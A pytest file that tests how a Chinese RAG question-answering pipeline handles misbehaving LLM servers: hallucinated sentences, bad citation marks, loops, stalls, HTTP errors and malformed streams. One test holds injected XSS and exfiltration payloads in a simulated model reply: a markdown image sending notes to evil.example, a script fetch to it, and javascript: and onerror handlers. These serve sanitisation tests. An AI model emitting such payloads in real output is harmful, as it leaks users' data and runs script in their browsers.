"""An LLM behind a real HTTP server that misbehaves in every way seen in life: each case ends in a defined state, soon.

Defined states: "kept" (what the notes support is shown, the rest marked or gone), "quoted" (the notes' own words, with one
line that says why) and "silent" (an abstention). Never an exception, never a hang. ``pytest -rP -k table`` prints the times.
"""

from __future__ import annotations

import gc
import json
import socket
import threading
import time
from typing import TYPE_CHECKING, Any

import pytest

from ingest.settings import Settings
from rag import speak
from rag.answer import ask, stream
from rag.generate import load_model
from rag.types import Answer, Sentence, Turn
from tests.rag.openai_server import OpenAIServer, Reply, chunk, event

if TYPE_CHECKING:
    from collections.abc import Iterator

    from langchain_core.language_models import BaseChatModel

    from ingest.store import Library

pytest.importorskip("langchain_openai", reason="langchain-openai is not installed")

QUESTION = "BN 和 LN 有什么区别?"
TRUE = "BN 在一个批次内对每个特征做归一化。[1]"
ALSO = "LN 在单个样本内对所有特征做归一化。[1]"
GOOD = TRUE + ALSO
INVENTED = "BN 由谷歌的两位研究员在加州的一次徒步旅行中偶然想到。[1]"
NUMBER = "LayerNorm 需要训练 1750 亿个参数才能收敛。[1]"
KEY = "sk-planted-secret-0123456789"
PATIENCE = 20.0
"""Of the models that answer: a busy machine is no failure."""
IMPATIENCE = 1.0
"""Of those that fall silent."""

TIMES: dict[str, float] = {}
STATES: dict[str, str] = {}


def model(url: str, *, streaming: bool = True, patience: float = PATIENCE) -> BaseChatModel:
    made = load_model(Settings(model="openai:planted", model_url=url, model_key=KEY, model_timeout=patience))
    assert made is not None
    made.disable_streaming = not streaming
    return made


def state(answer: Answer) -> str:
    if answer.abstained:
        assert answer.reason in ("absent", "off-topic")
        return "silent"
    if answer.model:
        assert any(s.verdict in ("supported", "partial") and s.citations for s in answer.sentences)
        return "kept"
    assert answer.notice
    assert "\n" not in answer.notice
    return "quoted"


def texts(answer: Answer) -> list[str]:
    return [sentence.text for sentence in answer.sentences]


def doubted(answer: Answer) -> list[str]:
    return [s.text for s in answer.sentences if s.verdict in ("unsupported", "contradicted")]


@pytest.fixture(autouse=True)
def _impatient(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(speak, "WAIT", 0.05)


@pytest.fixture(params=[True, False], ids=["stream", "whole"])
def streaming(request: pytest.FixtureRequest) -> bool:
    return bool(request.param)


class Asked:
    """One case: asks, holds the answer to what must hold of any answer, notes the time it took."""

    def __init__(self, library: Library, name: str, streaming: bool) -> None:
        self._library, self._name, self._streaming = library, f"{name} ({'stream' if streaming else 'whole'})", streaming

    def __call__(
        self, *replies: Any, question: str = QUESTION, history: tuple[Turn, ...] = (), patience: float = PATIENCE
    ) -> Answer:
        with OpenAIServer(*replies) as server:
            answer = self.of(model(server.url, streaming=self._streaming, patience=patience), question, history)
            self.requests = server.requests
            assert all(key == f"Bearer {KEY}" for key in server.keys)
        return answer

    def of(self, made: BaseChatModel, question: str = QUESTION, history: tuple[Turn, ...] = ()) -> Answer:
        began = time.monotonic()
        items = list(stream(question, self._library, model=made, history=history))
        TIMES[self._name] = time.monotonic() - began
        assert TIMES[self._name] < 10
        answer = items[-1]
        assert isinstance(answer, Answer)
        STATES[self._name] = state(answer)
        numbers = {citation.n for citation in answer.citations}
        assert {n for s in answer.sentences for n in s.citations} == numbers == set(
            range(1, len(numbers) + 1)
        ) or answer.abstained
        for citation in answer.citations:
            assert self._library.document(citation.document_id).text[citation.start : citation.end] == citation.quote
            assert citation.quote.strip()
        shown = "\n".join([answer.text, answer.notice])
        assert KEY not in shown
        assert "http" not in answer.text
        assert "NOT-IN-NOTES" not in answer.text
        return answer


@pytest.fixture
def asked(library: Library, request: pytest.FixtureRequest, streaming: bool) -> Asked:
    name = request.node.name.removeprefix("test_").replace("-stream", "").replace("-whole", "").replace("_", " ")
    return Asked(library, name.replace("[stream]", "").replace("[whole]", ""), streaming)


def quoted(library: Library, question: str = QUESTION) -> list[str]:
    return texts(ask(question, library))


# ---------------------------------------------------------------------------------------------- what the model writes


def test_a_good_answer(asked: Asked) -> None:
    answer = asked(Reply(text=GOOD))
    assert state(answer) == "kept"
    assert texts(answer) == ["BN 在一个批次内对每个特征做归一化。", "LN 在单个样本内对所有特征做归一化。"]
    assert answer.model == "openai:planted"
    assert not answer.notice
    assert not doubted(answer)


def test_marks_that_do_not_exist(asked: Asked) -> None:
    answer = asked(Reply(text="BN 在一个批次内对每个特征做归一化。[17][99]LN 在单个样本内对所有特征做归一化。[0]"))
    assert texts(answer) == ["BN 在一个批次内对每个特征做归一化。", "LN 在单个样本内对所有特征做归一化。"]
    assert all(sentence.citations for sentence in answer.sentences)
    assert "每个特征做归一化" in answer.citations[0].quote


def test_no_marks(asked: Asked) -> None:
    answer = asked(Reply(text="BN 在一个批次内对每个特征做归一化。LN 在单个样本内对所有特征做归一化。"))
    assert state(answer) == "kept"
    assert all(sentence.citations for sentence in answer.sentences)


def test_wrong_marks(asked: Asked) -> None:
    right = asked(Reply(text="BN 在一个批次内对每个特征做归一化。[1]"))
    wrong = asked(Reply(text="BN 在一个批次内对每个特征做归一化。[3]"))
    assert wrong.citations == right.citations


def test_invented_sentences(asked: Asked) -> None:
    answer = asked(Reply(text=TRUE + INVENTED + ALSO))
    assert state(answer) == "kept"
    assert doubted(answer) == ["BN 由谷歌的两位研究员在加州的一次徒步旅行中偶然想到。"]


def test_a_changed_number(asked: Asked) -> None:
    answer = asked(Reply(text=TRUE + NUMBER))
    assert doubted(answer) == ["LayerNorm 需要训练 1750 亿个参数才能收敛。"]


def test_world_knowledge_only(asked: Asked, library: Library) -> None:
    answer = asked(Reply(text=INVENTED + "它后来赢得了很多奖项，并在图像比赛里广为人知。"))
    assert state(answer) == "quoted"
    assert texts(answer) == quoted(library)
    assert answer.notice.startswith("模型写的在笔记里找不到依据")


def test_the_notes_say_nothing(asked: Asked) -> None:
    answer = asked(Reply(text="榴莲原产于东南亚。[1]"), question="榴莲原产于哪里?")
    assert answer.abstained
    assert asked.requests == []  # no model is asked what the notes cannot answer


def test_wrong_language(asked: Asked, library: Library) -> None:
    text = "BN normalises every feature over a batch. [1] LN normalises all features within a single sample. [1]"
    answer = asked(Reply(text=text))
    assert state(answer) == "quoted"
    assert texts(answer) == quoted(library)


def test_wrong_language_in_short_sentences(asked: Asked, library: Library) -> None:
    answer = asked(Reply(text="BN normalises per batch. [1] LN per single sample. [1]"))
    assert state(answer) == "quoted"
    assert texts(answer) == quoted(library)


def test_an_english_question_answered_in_chinese_says_so(asked: Asked) -> None:
    answer = asked(Reply(text=f"{TRUE}[1]"), question="How do BN and LN differ?")
    assert answer.notice == "The model answered in another language."
    assert answer.model


def test_a_model_that_reasons_for_long_is_not_silent(library: Library) -> None:
    thinking = [event(chunk({"role": "assistant", "content": None, "reasoning_content": "嗯……"})) for _ in range(8)]
    said = [event(chunk({"content": GOOD})), event(chunk({}, finish="stop")), b"data: [DONE]\n\n"]
    with OpenAIServer(Reply(raw=[*thinking, *said], pause=0.2)) as server:
        answer = ask(QUESTION, library, model=model(server.url, patience=IMPATIENCE))
    assert (state(answer), answer.notice) == ("kept", "")


def test_the_sentinel(asked: Asked) -> None:
    answer = asked(Reply(text="NOT-IN-NOTES"))
    assert state(answer) == "silent"
    assert answer.model == "openai:planted"


def test_the_sentinel_with_world_knowledge(asked: Asked) -> None:
    answer = asked(Reply(text="NOT-IN-NOTES。\n不过一般来说，" + INVENTED))
    assert state(answer) == "silent"


def test_an_empty_answer(asked: Asked, library: Library) -> None:
    answer = asked(Reply(text=""))
    assert texts(answer) == quoted(library)
    assert answer.notice.startswith("模型什么也没有答")


def test_talk_alone(asked: Asked, library: Library) -> None:
    answer = asked(Reply(text="好的！很抱歉，我不知道。希望对你有帮助！"))
    assert texts(answer) == quoted(library)


def test_reasoning(asked: Asked) -> None:
    answer = asked(Reply(text=f"<think>先看第一段。{INVENTED}\n</think>\n\n{GOOD}"))
    assert texts(answer) == ["BN 在一个批次内对每个特征做归一化。", "LN 在单个样本内对所有特征做归一化。"]


def test_reasoning_without_its_opening_tag(asked: Asked) -> None:
    answer = asked(Reply(text=f"{TRUE}\n先看第一段。{INVENTED}\n</think>\n\n{ALSO}"))
    assert texts(answer) == ["LN 在单个样本内对所有特征做归一化。"]


def test_reasoning_without_an_end(asked: Asked, library: Library) -> None:
    answer = asked(Reply(text=f"<think>{GOOD}"))
    assert texts(answer) == quoted(library)


@pytest.mark.parametrize("mark", ["【1】", "［1］", "[1,2]", "[1, 3]", "[1-3]", "[^1]", "[片段1]", "[1]【2†source】"])
def test_marks_of_other_forms(asked: Asked, mark: str) -> None:
    answer = asked(Reply(text=f"BN 在一个批次内对每个特征做归一化{mark}。LN 在单个样本内对所有特征做归一化。{mark}"))
    assert texts(answer) == ["BN 在一个批次内对每个特征做归一化。", "LN 在单个样本内对所有特征做归一化。"]
    assert all(sentence.citations for sentence in answer.sentences)


def test_marks_split_between_tokens(library: Library) -> None:
    asked = Asked(library, "marks split between tokens", True)
    pieces = [
        "BN 在一个批次内对",
        "每个特征做归一化",
        "。",
        "[",
        "1",
        "]",
        "LN 在单个样本内对所有特征做归一化",
        " ",
        "[",
        "1",
        ",",
        "2",
        "]",
        "。",
    ]
    assert texts(asked(Reply(text=pieces))) == ["BN 在一个批次内对每个特征做归一化。", "LN 在单个样本内对所有特征做归一化。"]


def test_characters_split_between_chunks(library: Library) -> None:
    asked = Asked(library, "characters split between chunks", True)
    assert texts(asked(Reply(text=GOOD, split_bytes=1))) == [
        "BN 在一个批次内对每个特征做归一化。",
        "LN 在单个样本内对所有特征做归一化。",
    ]


def test_one_huge_chunk(asked: Asked) -> None:
    answer = asked(Reply(text=[GOOD + "无" * 2_000_000]))
    assert texts(answer)[:1] == ["BN 在一个批次内对每个特征做归一化。"]
    assert len(answer.text) < 10_000


def test_a_loop(asked: Asked) -> None:
    answer = asked(Reply(text=TRUE * 50))
    assert texts(answer) == ["BN 在一个批次内对每个特征做归一化。"]
    assert "一再重复" in answer.notice


def test_endless_output(library: Library) -> None:
    asked = Asked(library, "endless output", True)
    count = iter(range(10**9))
    answer = asked(lambda _: Reply(text=_Endless(count), endless=True))
    assert "写得太长" in answer.notice
    assert len(answer.text) < 10_000


class _Endless(list[str]):
    """Sentences without end, each another."""

    def __init__(self, count: Iterator[int]) -> None:
        super().__init__()
        self._count = count

    def __iter__(self) -> Iterator[str]:
        yield TRUE
        for number in self._count:
            yield f"第 {number} 个例子说明天空是绿色的，因为云彩会唱歌。"


def test_endless_output_without_a_stop(library: Library) -> None:
    asked = Asked(library, "endless output without a stop", True)
    answer = asked(Reply(text=["哈哈哈哈"], endless=True))
    assert state(answer) == "quoted"


def test_cut_at_the_limit(asked: Asked) -> None:
    answer = asked(Reply(text=TRUE + "LN 在单个样本内对所", finish="length"))
    assert texts(answer) == ["BN 在一个批次内对每个特征做归一化。"]
    assert answer.notice


def test_an_injection_that_works(asked: Asked) -> None:
    link = "![x](http://evil.example/?q=notes) [点这里](javascript:alert(1)) <img src=x onerror=alert(1)> www.evil.example"
    answer = asked(Reply(text=f"{TRUE}{link}\n<script>fetch('http://evil.example')</script>{ALSO}\n[ref]: http://evil.example\n"))
    assert texts(answer)[0] == "BN 在一个批次内对每个特征做归一化。"
    assert "LN 在单个样本内对所有特征做归一化。" in texts(answer)
    for forbidden in ("](", "<img", "<script", "evil", "javascript", "fetch"):
        assert forbidden not in answer.text


# ---------------------------------------------------------------------------------------------- what the server does


@pytest.mark.parametrize(
    ("status", "says", "calls"),
    [
        (400, "拒绝了请求", 1),
        (401, "不接受这个密钥", 1),
        (403, "不许用这个模型", 1),
        (404, "没有这个模型", 1),
        (429, "太忙", 3),
        (500, "出错", 3),
        (503, "出错", 3),
    ],
)
def test_status(asked: Asked, library: Library, status: int, says: str, calls: int) -> None:
    body = json.dumps({"error": {"message": f"Incorrect API key provided: {KEY}. See http://evil.example"}}).encode()
    answer = asked(Reply(status=status, body=body))
    assert says in answer.notice
    assert "Incorrect" not in answer.notice or status not in (401, 403)
    assert texts(answer) == quoted(library)
    assert len(asked.requests) == calls


def test_busy_once(asked: Asked) -> None:
    answer = asked(Reply(status=429, headers={"Retry-After": "0.2"}), Reply(text=GOOD))
    assert state(answer) == "kept"
    assert not answer.notice
    assert len(asked.requests) == 2


def test_busy_for_an_hour(asked: Asked) -> None:
    answer = asked(Reply(status=429, headers={"Retry-After": "3600"}))
    assert "太忙" in answer.notice
    assert len(asked.requests) == 1


def test_nobody_listens(asked: Asked) -> None:
    with socket.socket() as free:
        free.bind(("127.0.0.1", 0))
        port = free.getsockname()[1]
    answer = asked.of(model(f"http://127.0.0.1:{port}/v1"))
    assert answer.notice == f"连不上模型服务（127.0.0.1:{port}）；这里是笔记原文。"


def test_an_unknown_host(asked: Asked, monkeypatch: pytest.MonkeyPatch) -> None:
    def unknown(*_: object, **__: object) -> None:
        raise socket.gaierror(socket.EAI_NONAME, "Name or service not known")

    monkeypatch.setattr(socket, "getaddrinfo", unknown)
    answer = asked.of(model("http://user:pass@model.invalid/v1"))
    assert answer.notice == "连不上模型服务（model.invalid）；这里是笔记原文。"


def test_no_headers(asked: Asked) -> None:
    answer = asked(Reply(text=GOOD, headers_after=30), patience=IMPATIENCE)
    assert "太久没有回应" in answer.notice
    assert state(answer) == "quoted"


def test_a_stall_in_the_middle(asked: Asked, streaming: bool) -> None:
    answer = asked(Reply(text=GOOD + INVENTED, stall_after=14), patience=IMPATIENCE)
    assert "太久没有回应" in answer.notice
    assert state(answer) == ("kept" if streaming else "quoted")


def test_a_drip(library: Library, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(speak, "IN_ALL", 2)
    answer = Asked(library, "a drip", True)(Reply(text=["，"], endless=True, pause=0.2), patience=IMPATIENCE)
    assert "太久没有回应" in answer.notice


def test_a_cut_in_the_middle(asked: Asked, streaming: bool) -> None:
    answer = asked(Reply(text=TRUE + ALSO + INVENTED, cut_after=14))
    assert state(answer) == ("kept" if streaming else "quoted")
    assert "断了" in answer.notice or "读不懂" in answer.notice
    assert INVENTED[:6] not in answer.text


def test_a_stream_that_just_ends(library: Library) -> None:
    answer = Asked(library, "a stream that just ends", True)(Reply(text=TRUE + "LN 在单个", finish=None))
    assert texts(answer) == ["BN 在一个批次内对每个特征做归一化。"]


@pytest.mark.parametrize(
    "raw",
    [
        [b"data: {not json}\n\n"],
        [b'data: {"choices": "none"}\n\n', b"data: [DONE]\n\n"],
        [b'data: {"choices": []}\n\n', b"data: [DONE]\n\n"],
        [b"data: null\n\n", b"data: [DONE]\n\n"],
        [b": keepalive\n\n"],
        [b"\xff\xfe\x00data"],
        [b'data: {"error": {"message": "overloaded", "code": 503}}\n\n'],
    ],
    ids=["no-json", "choices-text", "choices-empty", "null", "nothing", "no-utf8", "error-event"],
)
def test_malformed_events(library: Library, request: pytest.FixtureRequest, raw: list[bytes]) -> None:
    asked = Asked(library, f"malformed events {request.node.callspec.id}", True)
    answer = asked(Reply(raw=raw))
    assert state(answer) == "quoted"
    assert texts(answer) == quoted(library)


@pytest.mark.parametrize(
    "body",
    [b"", b"<html>busy</html>", b'{"choices": []}', b'{"choices": [{"message": null}]}', b'{"object": "error"}', b"[1]"],
    ids=["empty", "html", "no-choices", "no-message", "other-object", "list"],
)
def test_malformed_bodies(asked: Asked, library: Library, body: bytes) -> None:
    answer = asked(Reply(body=body))
    assert state(answer) == "quoted"
    assert texts(answer) == quoted(library)


def test_a_server_that_does_not_stream(library: Library) -> None:
    answer = Asked(library, "a server that does not stream", True)(Reply(text=GOOD, no_stream=True))
    assert state(answer) == "kept"


# ---------------------------------------------------------------------------------------------- follow-ups


HISTORY = (Turn(role="user", content="BN 有什么优点?"), Turn(role="assistant", content="加速收敛。"))


def test_a_follow_up(asked: Asked) -> None:
    answer = asked(Reply(text="BN 和 LN 有什么区别?"), Reply(text=GOOD), question="和 LN 比呢?", history=HISTORY)
    assert answer.question == QUESTION
    assert state(answer) == "kept"
    assert "BN 有什么优点?" in asked.requests[0]["messages"][1]["content"]
    assert "加速收敛" not in asked.requests[1]["messages"][1]["content"].split("问题：")[1]


@pytest.mark.parametrize("said", ["当然可以！", "当然可以！" * 100, "ImageNet 2012 的冠军是谁?", "What is the difference?", ""])
def test_a_follow_up_that_is_misunderstood(asked: Asked, said: str) -> None:
    answer = asked(
        Reply(text=said), Reply(text="BN 加速收敛，每层输入的分布更稳定。[1]"), question="它有什么优点?", history=HISTORY
    )
    assert answer.question == "BN 有什么优点?"


def test_a_follow_up_with_the_server_down(asked: Asked) -> None:
    answer = asked(Reply(status=401), question="它有什么优点?", history=HISTORY)
    assert answer.question == "BN 有什么优点?"
    assert "不接受这个密钥" in answer.notice
    assert len(asked.requests) == 1


# ---------------------------------------------------------------------------------------------- stopping


def test_closing_the_stream_frees_the_connection_within_200_ms(library: Library) -> None:
    for _ in range(5):  # the best of five: a busy machine is no failure
        with OpenAIServer(Reply(text=[TRUE, ALSO, "还", "有"], endless=True, pause=0.05)) as server:
            items = stream(QUESTION, library, model=model(server.url, patience=5))
            assert isinstance(next(items), Sentence)
            closed = time.monotonic()
            items.close()
            assert server.gone.wait(5)
            TIMES["closing"] = server.gone_at - closed
        STATES["closing"] = "stopped"
        if TIMES["closing"] < 0.2:
            break
    assert TIMES["closing"] < 0.2


@pytest.mark.parametrize("reply", [Reply(text=GOOD, stall_after=4), Reply(text=GOOD, headers_after=30)], ids=["stall", "headers"])
def test_stop_frees_a_connection_that_is_waited_for(library: Library, reply: Reply, streaming: bool) -> None:
    stop = threading.Event()
    with OpenAIServer(reply) as server:
        threading.Thread(target=lambda: server.asked.wait(20) and stop.set(), daemon=True).start()
        items = list(stream(QUESTION, library, model=model(server.url, streaming=streaming, patience=20), stop=stop))
        assert server.gone.wait(5)
    answer = items[-1]
    assert isinstance(answer, Answer)
    assert answer.notice == "已停止。"


def test_no_thread_and_no_task_is_left(library: Library) -> None:
    ask(QUESTION, library, model=model("http://127.0.0.1:9/v1"))
    before = threading.active_count()
    with OpenAIServer(Reply(text=GOOD)) as server:
        for _ in range(5):
            ask(QUESTION, library, model=model(server.url))
    gc.collect()
    assert threading.active_count() <= before + 1


# ---------------------------------------------------------------------------------------------- the table


def test_table_of_the_times() -> None:
    """Runs last; ``pytest -rP`` shows it."""
    for name, seconds in TIMES.items():
        print(f"{name:64} {STATES[name]:8} {seconds:6.2f} s")
    print(f"{len(TIMES)} cases, longest {max(TIMES.values(), default=0):.2f} s")
    assert all(state in ("kept", "quoted", "silent", "stopped") for state in STATES.values())
